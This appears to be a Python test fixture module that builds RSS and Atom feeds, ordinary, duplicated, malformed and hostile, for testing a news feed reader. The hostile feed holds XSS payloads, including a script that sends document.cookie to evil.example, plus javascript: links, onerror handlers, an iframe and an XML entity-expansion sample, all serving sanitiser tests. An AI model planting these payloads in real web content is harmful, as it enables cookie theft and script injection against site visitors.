"""Feed documents for the tests: ordinary, hostile, broken and duplicated."""

from __future__ import annotations


def rss(items: str, title: str = "Test outlet") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0"><channel>'
        f"<title>{title}</title><link>https://outlet.example/</link>"
        f"{items}</channel></rss>"
    ).encode()


def item(title: str, link: str, summary: str = "", date: str = "") -> str:
    published = f"<pubDate>{date}</pubDate>" if date else ""
    return (
        f"<item><title>{title}</title><link>{link}</link>"
        f"<description><![CDATA[{summary}]]></description>{published}</item>"
    )


GOOD = rss(
    item(
        "Late recurrence of breast cancer: new model predicts risk",
        "https://outlet.example/news/late-recurrence?utm_source=rss&utm_medium=feed",
        "<p>A model predicts <em>late recurrence</em> in hormone receptor-positive breast "
        "cancer survivors.</p>",
        "Tue, 10 Nov 2026 09:00:00 GMT",
    )
    + item(
        "Hospital opens new car park",
        "https://outlet.example/news/car-park",
        "<p>Parking is easier now.</p>",
        "Mon, 09 Nov 2026 09:00:00 GMT",
    )
)

HOSTILE = rss(
    item(
        "Breast cancer relapse study <script>alert('t')</script>",
        "https://hostile.example/story-1",
        '<p onclick="steal()">Metastatic breast cancer trial.</p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt:alert(2)">again</a>'
        '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>'
        '<a href="/relative/path">relative</a>'
        '<img src="https://tracker.example/pixel.gif" width="1" height="1">'
        '<img src="x" onerror="alert(3)">'
        '<iframe src="https://evil.example/"></iframe>'
        '<p style="background:url(javascript:alert(4))">styled</p>'
        "<svg onload=alert(5)><circle/></svg><!-- comment -->"
        '<form action="https://evil.example/"><input name="q"></form>',
    )
    + item("Link is javascript", "javascript:alert(document.domain)", "<p>No.</p>")
    + item("", "https://hostile.example/untitled", "<p>No title.</p>")
)

# The same story from two outlets: the same page with tracking parameters, and a reworded
# title on another address.
DUPLICATE_A = rss(
    item(
        "Roche breast cancer pill cuts risk of disease recurrence by 30% in trial - Reuters",
        "https://www.news-a.example/health/roche-pill?utm_source=feed&fbclid=abc",
        "<p>Giredestrant lowered the risk of recurrence in the lidERA trial.</p>",
        "Wed, 10 Dec 2025 12:00:00 GMT",
    )
)
DUPLICATE_B = rss(
    item(
        "Roche breast cancer pill cuts risk of disease recurrence by 30% in trial",
        "https://news-a.example/health/roche-pill/?gclid=xyz#top",
        "<p>Same story, syndicated.</p>",
        "Wed, 10 Dec 2025 13:00:00 GMT",
    )
    + item(
        "Roche pill cuts breast cancer recurrence risk by 30 percent in trial | Outlet B",
        "https://news-b.example/2025/12/roche",
        "<p>Our own write-up of the lidERA trial.</p>",
        "Wed, 10 Dec 2025 14:00:00 GMT",
    )
)

MALFORMED = b"\x00\x01 this is <<<not>>> a feed at all </rss"
BROKEN_BUT_READABLE = (
    b'<?xml version="1.0"?><rss version="2.0"><channel><title>Broken</title>'
    b"<item><title>Breast cancer recurrence & survivorship</title>"
    b"<link>https://broken.example/a</link><description>Unclosed <b>tag"
    b"</description></item></channel>"
)
ENTITY_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    b"<rss><channel><item><title>&lol2;</title><link>https://x.example/</link></item>"
    b"</channel></rss>"
)
ATOM = (
    b'<?xml version="1.0" encoding="utf-8"?>'
    b'<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom outlet</title>'
    b'<link href="https://atom.example/"/><updated>2026-11-01T10:00:00Z</updated>'
    b"<entry><title>ESR1 mutation test guides metastatic breast cancer treatment</title>"
    b'<link href="/2026/11/esr1"/><id>tag:atom.example,2026:1</id>'
    b"<updated>2026-11-01T10:00:00Z</updated>"
    b'<content type="html">&lt;p&gt;Elacestrant after &lt;b&gt;CDK4/6&lt;/b&gt;.&lt;/p&gt;'
    b"</content></entry></feed>"
)
